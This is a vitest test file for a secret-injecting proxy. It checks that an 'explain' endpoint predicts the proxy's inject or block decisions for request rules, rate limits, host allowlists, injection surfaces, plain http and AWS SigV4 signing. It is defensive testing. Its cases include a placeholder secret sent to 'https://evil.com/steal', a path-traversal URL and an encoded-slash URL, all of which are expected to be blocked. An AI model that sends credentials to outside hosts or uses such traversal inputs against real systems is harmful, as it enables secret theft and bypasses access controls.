// SPEC §10 explain against the real proxy: for the same request, `POST /agents/{id}/explain` predicts
// what the proxy then does (inject or block, and why), for request rules, a rate limit, hosts,
// surfaces and plain http. Explain itself takes no rate-limit slot, and each refusal shows up on the
// audit stream (SSE) with the reason the proxy gave.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ok } from '../agents/helpers.js';
import { SseClient } from '../helpers/kit.js';
import { agentWith, send, sendPlain, startWorld, type AgentFx, type Sent, type World } from './helpers.js';

const V = {
  CHARGES: 'sk_live_EXPLAIN_charges_41a9',
  LIMITED: 'sk_live_EXPLAIN_limited_7c2e',
  OPEN: 'sk_live_EXPLAIN_open_0d5b',
  QUERY: 'sk_live_EXPLAIN_query_93fa',
  /** What the upstream sees of an aws_sigv4 secret: its real key id, in the signature's credential. */
  AWS_ACCESS_KEY_ID: 'AKIAEXPLAINREAL00001',
};
const AWS_SECRET = 'explain/Real+Secret=Key00000000000000000';
type Name = keyof typeof V;

let w: World;
let fx: AgentFx;
let ph: Record<Name, string>;
let stream: SseClient;

beforeAll(async () => {
  w = await startWorld();
  fx = await agentWith(w.s, [
    { key: 'CHARGES', value: V.CHARGES, allowed_domains: ['api.stripe.com'], rules: [{ methods: ['GET'], paths: ['/v1/charges/*'] }, { methods: ['POST'], paths: ['/v1/refunds'] }] },
    { key: 'LIMITED', value: V.LIMITED, allowed_domains: ['api.stripe.com'], rate_limit: { requests: 2, per: 'hour' } },
    { key: 'OPEN', value: V.OPEN, allowed_domains: ['api.stripe.com'] },
    { key: 'QUERY', value: V.QUERY, allowed_domains: ['api.stripe.com'], inject_in: ['header', 'query'] },
    // The recording upstream plays S3 here: what it checks is the key id the proxy signed with.
    { key: 'AWS', type: 'aws_sigv4', value: { access_key_id: V.AWS_ACCESS_KEY_ID, secret_access_key: AWS_SECRET }, regions: ['us-east-1'], services: ['s3'], allowed_domains: ['api.stripe.com'] },
  ]);
  ph = Object.fromEntries(Object.keys(V).map((k) => [k, fx.env[k]!])) as Record<Name, string>;
  stream = await SseClient.open(w.s, '/audit/stream?type=proxy.blocked');
});
afterAll(async () => {
  stream?.close();
  await w.close();
});
beforeEach(() => w.up.reset());

interface Req { method: string; url: string; headers: Record<string, string>; body?: string }
interface Explained { destination: { host: string; port: number }; agent_status: string; placeholders: { env_key: string | null; secret_id: string | null; surface: string; decision: 'inject' | 'block'; reason: string }[]; available: unknown[] }

const explain = async (req: Req): Promise<Explained> => ok(w.s.call('POST', `/agents/${fx.id}/explain`, { body: req }), 200);

/** The same request through the proxy: https through a CONNECT tunnel, http:// in absolute form. */
function viaProxy(req: Req): Promise<Sent> {
  const u = /^(https?):\/\/([^/?#]+)([^#]*)$/.exec(req.url)!;
  const [, scheme, host, target] = u;
  if (scheme === 'http') return sendPlain(w.s, fx.auth, req.url, { method: req.method, headers: req.headers, ...(req.body === undefined ? {} : { body: req.body }) });
  return send(w.s, fx, { authority: `${host}:443`, method: req.method, path: target || '/', headers: req.headers, ...(req.body === undefined ? {} : { body: req.body }) });
}

/**
 * Explain first, then the proxy: a predicted inject is a 200 with every value in place; a predicted
 * block is a refusal (a rate limit: 429) with nothing sent upstream, whose audit record arrives on
 * the audit stream naming the first blocked placeholder's secret and the reason explain gave.
 */
async function consistent(req: Req): Promise<{ explained: Explained; sent: Sent }> {
  const explained = await explain(req);
  expect(explained.placeholders.length, 'the request must carry a placeholder').toBeGreaterThan(0);
  const before = stream.events().length;
  const sent = await viaProxy(req);
  const blocks = explained.placeholders.filter((p) => p.decision === 'block');
  if (blocks.length === 0) {
    expect(sent.status, sent.text).toBe(200);
    expect(w.up.requests).toHaveLength(1);
    const got = w.up.requests[0]!;
    const seen = `${got.url}\n${got.rawHeaders.join('\n')}\n${got.body.toString()}`;
    expect(seen).not.toMatch(/vgph_/);
    for (const p of explained.placeholders) expect(seen).toContain(V[p.env_key as Name]);
    return { explained, sent };
  }
  expect(w.up.requests).toHaveLength(0);
  await stream.until(() => stream.events().length > before);
  const events = stream.events().slice(before);
  expect(events).toHaveLength(1);
  const event = events[0];
  // The proxy checks rate limits once the rest of the request is decided: another block comes first.
  const first = blocks.find((p) => !p.reason.startsWith('rate limit:')) ?? blocks[0]!;
  expect([event.type, event.agent_id, event.secret_id]).toEqual(['proxy.blocked', fx.id, first.secret_id]);
  if (first.reason.startsWith('rate limit:')) {
    expect([sent.status, sent.json?.code, event.reason]).toEqual([429, 'rate_limited', 'rate_limited']);
    expect(first.reason).toMatch(/^rate limit: retry in \d+ s$/);
    expect(Number(first.reason.match(/\d+/)![0])).toBeGreaterThanOrEqual(Number(sent.headers['retry-after']));
  } else {
    expect(sent.status, sent.text).toBe(403);
    // The audit record's fixed word (rule_denied) keeps the sentence in details.detail; other reasons are the sentence.
    const reason = String(event.details?.detail ?? event.reason);
    // A SigV4-signed request is answered as AWS answers (XML), the others in JSON: the same message.
    const message = sent.json?.error ?? /<Message>([^<]*)<\/Message>/.exec(sent.text)?.[1];
    if (req.method !== 'HEAD') expect(message).toBe(`request blocked: ${reason}`);
    expect(first.reason.endsWith(`: ${reason}`), `explain "${first.reason}" vs proxy "${reason}"`).toBe(true);
  }
  return { explained, sent };
}

const stripe = (path: string) => `https://api.stripe.com${path}`;

describe('explain predicts the proxy', () => {
  it('request rules: admitted GET and POST inject; other methods, paths, dot segments and encoded slashes block with `rule`', async () => {
    const cases: [Req, 'inject' | 'block'][] = [
      [{ method: 'GET', url: stripe('/v1/charges/ch_1'), headers: { Authorization: `Bearer ${ph.CHARGES}` } }, 'inject'],
      [{ method: 'POST', url: stripe('/v1/refunds'), headers: { Authorization: `Bearer ${ph.CHARGES}` }, body: 'charge=ch_1' }, 'inject'],
      [{ method: 'POST', url: stripe('/v1/charges/ch_1'), headers: { Authorization: `Bearer ${ph.CHARGES}` }, body: 'x=1' }, 'block'],
      [{ method: 'HEAD', url: stripe('/v1/charges/ch_1'), headers: { Authorization: `Bearer ${ph.CHARGES}` } }, 'block'],
      [{ method: 'GET', url: stripe('/v1/charges/ch_1/refunds'), headers: { Authorization: `Bearer ${ph.CHARGES}` } }, 'block'],
      [{ method: 'GET', url: stripe('/v1/charges/../customers'), headers: { Authorization: `Bearer ${ph.CHARGES}` } }, 'block'],
      [{ method: 'GET', url: stripe('/v1/charges/a%2Fb'), headers: { Authorization: `Bearer ${ph.CHARGES}` } }, 'block'],
      [{ method: 'GET', url: stripe('/v1/charges/ch_1'), headers: { Authorization: `Bearer ${ph.CHARGES}`, 'X-Open': ph.OPEN } }, 'inject'],
      [{ method: 'DELETE', url: stripe('/v1/charges/ch_1'), headers: { 'X-Open': ph.OPEN, Authorization: `Bearer ${ph.CHARGES}` } }, 'block'],
    ];
    for (const [req, decision] of cases) {
      w.up.reset();
      const { explained } = await consistent(req);
      const charges = explained.placeholders.find((p) => p.env_key === 'CHARGES')!;
      expect([req.method, req.url, charges.decision], charges.reason).toEqual([req.method, req.url, decision]);
      if (decision === 'block') expect(charges.reason).toMatch(/^rule: no request rule of this secret allows it: /);
    }
  });

  it('hosts, surfaces and plain http', async () => {
    const cases: [Req, string][] = [
      [{ method: 'GET', url: 'https://evil.com/steal', headers: { 'X-K': ph.OPEN } }, 'host: '],
      [{ method: 'GET', url: stripe(`/v1/x?k=${ph.OPEN}`), headers: {} }, 'surface: '],
      [{ method: 'GET', url: stripe(`/v1/x?k=${ph.QUERY}`), headers: {} }, 'allowed'],
      [{ method: 'POST', url: stripe('/v1/x'), headers: { 'Content-Type': 'text/plain' }, body: `k=${ph.QUERY}` }, 'surface: '],
      [{ method: 'GET', url: 'http://api.stripe.com/v1/x', headers: { 'X-K': ph.OPEN } }, 'plain http: '],
    ];
    for (const [req, reason] of cases) {
      w.up.reset();
      const { explained } = await consistent(req);
      expect(explained.placeholders.map((p) => p.reason.startsWith(reason))).toEqual([true]);
    }
  });

  it('aws_sigv4: a request signed with the placeholder key is signed again for its region and service only; the secret key placeholder never goes', async () => {
    const date = new Date().toISOString().replace(/[-:]/g, '').replace(/\.\d+/, '');
    const signed = (scope: string): Record<string, string> => ({
      Authorization: `AWS4-HMAC-SHA256 Credential=${fx.env.AWS_ACCESS_KEY_ID}/${date.slice(0, 8)}/${scope}/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=${'0'.repeat(64)}`,
      'X-Amz-Date': date,
      'X-Amz-Content-Sha256': 'UNSIGNED-PAYLOAD',
    });
    w.up.reset();
    const ok1 = await consistent({ method: 'GET', url: stripe('/bucket/key'), headers: signed('us-east-1/s3') });
    expect(ok1.explained.placeholders.map((p) => [p.env_key, p.decision, p.reason])).toEqual([['AWS_ACCESS_KEY_ID', 'inject', 'signed with the real key']]);
    expect(w.up.requests[0]!.headers.authorization).toMatch(new RegExp(`^AWS4-HMAC-SHA256 Credential=${V.AWS_ACCESS_KEY_ID}/`));
    for (const [scope, reason] of [['eu-west-1/s3', 'credential type: region eu-west-1 is not among the regions this secret may sign for'], ['us-east-1/sts', 'credential type: service sts is not among the services this secret may sign for']]) {
      w.up.reset();
      const { explained } = await consistent({ method: 'GET', url: stripe('/bucket/key'), headers: signed(scope!) });
      expect(explained.placeholders.map((p) => [p.decision, p.reason])).toEqual([['block', reason]]);
    }
    w.up.reset();
    const { explained } = await consistent({ method: 'GET', url: stripe('/x'), headers: { 'X-Key': fx.env.AWS_SECRET_ACCESS_KEY! } });
    expect(explained.placeholders.map((p) => [p.env_key, p.reason])).toEqual([['AWS_SECRET_ACCESS_KEY', 'credential type: an aws_sigv4 credential is only used to sign requests, never sent as a value']]);
  });

  it('a rate limit: explain takes no slot, predicts the two that pass and the third that is refused', async () => {
    const req: Req = { method: 'GET', url: stripe('/v1/limited'), headers: { Authorization: `Bearer ${ph.LIMITED}` } };
    // Explaining is free: many explains, and still two requests pass.
    for (let i = 0; i < 5; i++) expect((await explain(req)).placeholders.map((p) => p.decision)).toEqual(['inject']);
    for (let i = 0; i < 2; i++) {
      w.up.reset();
      const { explained } = await consistent(req);
      expect(explained.placeholders.map((p) => [p.env_key, p.decision])).toEqual([['LIMITED', 'inject']]);
    }
    w.up.reset();
    const { explained, sent } = await consistent(req);
    expect(explained.placeholders.map((p) => [p.env_key, p.decision])).toEqual([['LIMITED', 'block']]);
    expect(sent.status).toBe(429);
    // With a rule refusal in the same request, the proxy names the rule (decided before the count), as explain lists it.
    w.up.reset();
    const mixed = await consistent({ method: 'POST', url: stripe('/v1/charges/ch_1'), headers: { Authorization: `Bearer ${ph.LIMITED}`, 'X-C': ph.CHARGES } });
    expect(mixed.explained.placeholders.map((p) => [p.env_key, p.decision])).toEqual([['LIMITED', 'block'], ['CHARGES', 'block']]);
    expect(mixed.sent.status).toBe(403);
  });

  it('every refusal above reached the audit stream, in order, with the reasons the audit log keeps', async () => {
    const logged = ((await ok(w.s.call('GET', '/audit?type=proxy.blocked&limit=1000'), 200)) as { id: string; reason: string }[]).filter((e) => (e as unknown as { agent_id: string }).agent_id === fx.id);
    const live = stream.events().filter((e) => e.agent_id === fx.id);
    expect(live.map((e) => [e.id, e.reason])).toEqual(logged.map((e) => [e.id, e.reason]));
    expect(live.map((e) => e.reason)).toContain('rule_denied');
    expect(live.map((e) => e.reason)).toContain('rate_limited');
  });
});
